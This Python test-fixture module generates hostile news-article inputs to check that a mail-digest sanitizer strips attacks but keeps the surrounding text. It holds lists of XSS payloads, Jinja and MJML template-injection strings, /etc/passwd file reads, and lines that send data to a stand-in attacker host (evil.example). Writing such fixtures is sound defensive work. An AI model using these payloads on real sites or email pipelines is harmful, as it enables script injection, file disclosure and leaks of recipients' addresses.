"""Generated hostile inputs: payloads x input formats x fields.

Each ``Case`` is one input file for ``maildigest build``. The payload sits
between two sentences unique to the case (``before``/``after``) inside an
otherwise ordinary news article, so a test can check both that the attack is
gone and that the article around it is not. ``literal`` lists text that must
come out as written (text that only *looks* like markup or template code).
"""

from __future__ import annotations

import html
from dataclasses import dataclass, field

XSS = {
    "script": "<script>alert(1)</script>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "img-onerror": "<img src=x onerror=alert(1)>",
    "svg-onload": "<svg onload=alert(1)><circle r=1></circle></svg>",
    "iframe-js": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "a-javascript": '<a href="javascript:alert(1)">click here now</a>',
    "a-javascript-obfuscated": '<a href="  jAvA&#x09;sCrIpT&colon;alert(1)">see more</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">a vb link</a>',
    "a-data": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example/"><input name="p"><button>Go</button></form>',
    "base": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style-url-js": '<span style="background:url(javascript:alert(1))">styled</span>',
    "style-expression": '<span style="width: expression(alert(1))">expr</span>',
    "style-import": "<style>@import url(https://evil.example/x.css); p{color:red}</style>",
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "attr-breakout": '"><script>alert(1)</script>',
    "attr-breakout-single": "'><img src=x onerror=alert(1)>",
    "nested-tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "math-xlink": '<math><mi xlink:href="javascript:alert(1)">m</mi></math>',
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment-script": "<!--<script>alert(1)</script>-->",
    "fullwidth": "＜script＞alert(1)＜/script＞",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "body-onload": "<body onload=alert(1)>",
    "tracking-pixel": '<img src="https://evil.example/pixel.gif?u=1" width="1" height="1">',
}
MARKDOWN_XSS = {
    "md-link-js": "[click here](javascript:alert(1))",
    "md-link-vbs": "[a vb link](vbscript:msgbox(1))",
    "md-link-data": "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-image-js": "![pic](javascript:alert(1))",
    "md-autolink-js": "<javascript:alert(1)>",
    "md-ref-js": "The [notice][x] was posted online.\n\n[x]: javascript:alert(1)\n\n",
    "md-raw-html": '<div onclick="alert(1)">raw html block</div>',
}
URLS = {
    "url-javascript": "javascript:alert(1)",
    "url-vbscript": "vbscript:msgbox(1)",
    "url-data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "url-tab": "java\tscript:alert(1)",
    "url-quote-breakout": 'https://example.com/"><script>alert(1)</script>',
    "url-file": "file:///etc/passwd",
    "url-placeholder": "https://evil.example/?who={{ recipient.email }}",
    "url-placeholder-encoded": "https://evil.example/?who=%7B%7Brecipient.email%7D%7D",
}
TEMPLATE = {
    "jinja-expr": "{{ 7*191 }}",
    "jinja-stmt": "{% for x in range(3) %}loop{% endfor %}",
    "jinja-config": "{{ config.__class__.__init__.__globals__ }}",
    "jinja-raw": "{% raw %}x{% endraw %}",
    "jinja-comment": "{# hidden #}",
    "recipient-placeholder": "{{ recipient.email }}",
    "mj-raw": "<mj-raw><script>alert(1)</script></mj-raw>",
    "mj-close": "</mj-text></mj-column></mj-section><mj-raw><script>alert(1)</script></mj-raw>",
    "mj-include": '<mj-include path="/etc/passwd" />',
    "mj-button": '<mj-button href="javascript:alert(1)">Buy</mj-button>',
}
# Text that looks like code but is the article's own words: must survive as written.
LITERAL = {
    "word-script": "the <script> tag",
    "jinja-expr": "{{ 7*191 }}",
    "jinja-stmt": "{% if x %}",
    "mj-raw": "<mj-raw>",
    "angle-math": "3 < 5 && 7 > 2",
}

FILLER = (
    "The council met for three hours and heard from residents on both sides of the debate "
    "before the chair called the final vote late in the evening.",
    "Several ferry operators welcomed the decision, saying the new timetable would let them "
    "plan crews and maintenance more reliably through the winter months.",
    "A final vote on the wider regional transport budget is expected next month, when the "
    "finance committee publishes its review of fares and subsidies.",
)
SAFE_URL = "https://news.example.org/ferry-timetable"
BEFORE = "The harbour board approved a new ferry timetable on Monday after a long debate."
AFTER = "Officials said the changes would take effect in the spring, pending a final vote."
"""Sentences around a payload: they must survive sanitizing."""


@dataclass(frozen=True)
class Case:
    id: str
    kind: str
    """The class of attack, for the report: xss, markdown, url, template, literal."""
    filename: str
    data: bytes
    before: str
    after: str
    literal: tuple[str, ...] = ()
    forbidden_text: tuple[str, ...] = ()
    """Strings that must NOT appear as text (e.g. the result of evaluating a template)."""
    extra: dict[str, str] = field(default_factory=dict)


def sentences(number: int) -> tuple[str, str]:
    return (
        f"The harbour board of district {number} approved a new ferry timetable on Monday.",
        f"Officials in district {number} said the changes would take effect in the spring.",
    )


def text_article(number: int, *, title: str, body: str, author: str = "Jane Doe") -> str:
    before, after = sentences(number)
    return "\n\n".join(
        [
            f"Ferry timetable approved {title} for district {number}",
            f"By {author}",
            f"{before} {body} {after}",
            *FILLER,
        ]
    )


def markdown_article(
    number: int, *, title: str, body: str, author: str = "Jane Doe", url: str = SAFE_URL
) -> str:
    before, after = sentences(number)
    return "\n\n".join(
        [
            f"---\ntitle: Ferry timetable approved {title} for district {number}\n"
            f"author: {author}\nurl: {url}\n---",
            f"# Ferry timetable approved {title} for district {number}",
            f"{before} {body} {after}",
            *FILLER,
        ]
    )


def html_article(
    number: int, *, title: str, body: str, author: str = "Jane Doe", url: str = SAFE_URL
) -> str:
    before, after = sentences(number)
    paragraphs = "".join(f"<p>{p}</p>" for p in FILLER)
    return (
        "<!DOCTYPE html><html lang=en><head><meta charset=utf-8>"
        f"<title>Ferry timetable approved {title} for district {number}</title>"
        f'<meta name="author" content="{author}"><link rel="canonical" href="{url}">'
        f'<meta property="og:url" content="{url}"></head><body><header><nav><a href="/">Home</a>'
        f"</nav></header><main><article><h1>Ferry timetable approved {title} for district "
        f'{number}</h1><p class="byline">By {author}</p><p>{before} {body} {after}</p>'
        f"{paragraphs}</article></main><footer>Contact us</footer></body></html>"
    )


_WRITERS = {"txt": text_article, "md": markdown_article, "html": html_article}


def _case(
    kind: str, name: str, ext: str, number: int, literal: tuple[str, ...] = (), **fields: str
) -> Case:
    before, after = sentences(number)
    values = {"title": "", "body": "", **fields}
    text = _WRITERS[ext](number, **values)  # type: ignore[operator]
    field_name = (
        next(k for k in ("author", "url", "title") if fields.get(k))
        if (not fields.get("body"))
        else "body"
    )
    return Case(
        id=f"{kind}-{name}-{ext}-{field_name}",
        kind=kind,
        filename=f"article.{ext}",
        data=text.encode("utf-8"),
        before=before,
        after=after,
        literal=literal,
        forbidden_text=("1337",) if "7*191" in str(fields) and kind == "template" else (),
    )


def build_cases() -> list[Case]:
    cases: list[Case] = []
    number = 100
    for name, payload in XSS.items():
        for ext in ("txt", "md", "html"):
            number += 1
            cases.append(_case("xss", name, ext, number, body=payload))
        for ext in ("txt", "html"):
            number += 1
            cases.append(_case("xss", name, ext, number, title=payload))
    for name in ("script", "img-onerror", "attr-breakout", "a-javascript", "attr-breakout-single"):
        for ext in ("txt", "md", "html"):
            number += 1
            cases.append(_case("xss", name, ext, number, author=f"Jane {XSS[name]} Doe"))
    for name, payload in MARKDOWN_XSS.items():
        number += 1
        cases.append(_case("markdown", name, "md", number, body=payload))
    for name, url in URLS.items():
        for ext in ("md", "html"):
            number += 1
            value = html.escape(url) if ext == "html" else url
            cases.append(_case("url", name, ext, number, url=value))
    for name, payload in TEMPLATE.items():
        for ext in ("txt", "md", "html"):
            number += 1
            body = html.escape(payload) if ext == "html" else payload
            literal = (payload,) if name in ("jinja-expr", "jinja-stmt") and ext != "md" else ()
            cases.append(_case("template", name, ext, number, literal, body=body))
        number += 1
        cases.append(_case("template", name, "txt", number, title=payload))
    for name, text in LITERAL.items():
        for ext in ("txt", "html"):
            number += 1
            body = html.escape(text) if ext == "html" else text
            words = f"Readers asked about {body} in the guide."
            expected = f"Readers asked about {text} in the guide."
            cases.append(_case("literal", name, ext, number, (expected,), body=words))
            number += 1
            title = f"Ferry timetable approved {text} for district {number}"
            cases.append(
                _case("literal", name, ext, number, (title,), title=body if ext == "html" else text)
            )
    return cases


CASES = build_cases()
